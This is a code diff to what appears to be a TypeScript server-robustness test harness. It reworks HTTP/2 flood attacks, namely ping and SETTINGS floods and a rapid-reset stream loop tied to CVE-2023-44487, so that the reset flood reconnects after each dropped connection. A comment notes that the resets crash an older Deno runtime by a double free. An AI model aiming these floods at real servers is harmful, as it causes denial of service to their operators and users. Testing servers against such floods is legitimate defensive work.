@@ -135,7 +135,7 @@ function stall(ground: Ground, connections: number): Promise<void> {
 }
 
 const FLOOD_FRAMES = 100_000;
-/** 2,500 streams that are opened and reset at once end such a runtime by a double free; 300 don't, and 2.8.3 stands them. */
+/** Such a runtime ends by a double free where 1,000 streams are opened and reset before the limit of 300 has its turn. */
 const EXCEPT = "no resets where the runtime is older than Deno 2.7.13, which they end";
 
 /** Frames that want an answer and cost nothing to send: pings, settings, resets (CVE-2019-9512, -9515, CVE-2023-44487). */
@@ -149,18 +149,22 @@ export const floods: Attack = http2Attack(
     const settings = rawFrame(FRAME.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]));
     const kinds = siege.program === "binary" && !await binaryCanServeTls() ? 2 : 3;
     await crowd(kinds, kinds, async (kind) => {
+      if (kind === 2) return await rapidResets(ground, frames / 4);
       using raw = await ground.converse();
-      if (kind === 2) return await rapidResets(raw, frames / 4);
       const batch = Buffer.concat(Array.from({ length: 1000 }, () => kind === 0 ? ping : settings));
       for (let sent = 0; sent < frames && !raw.closed; sent += 1000) await raw.sendBytes(batch);
     });
   },
 );
 
-async function rapidResets(raw: RawHttp2, streams: number): Promise<void> {
-  for (let i = 0; i < streams && !raw.closed; i++) {
-    await raw.sendHeaders(1 + 2 * i, PATH, END_HEADERS);
-    await raw.send(FRAME.rstStream, 0, 1 + 2 * i, Buffer.from([0, 0, 0, 8]));
+/** The server ends a connection that does so: the next one goes on. */
+async function rapidResets(ground: Ground, streams: number): Promise<void> {
+  for (let left = streams; left > 0;) {
+    using raw = await ground.converse();
+    for (let i = 0; left > 0 && !raw.closed; i++, left--) {
+      await raw.sendHeaders(1 + 2 * i, PATH, END_HEADERS);
+      await raw.send(FRAME.rstStream, 0, 1 + 2 * i, Buffer.from([0, 0, 0, 8]));
+    }
   }
 }
 
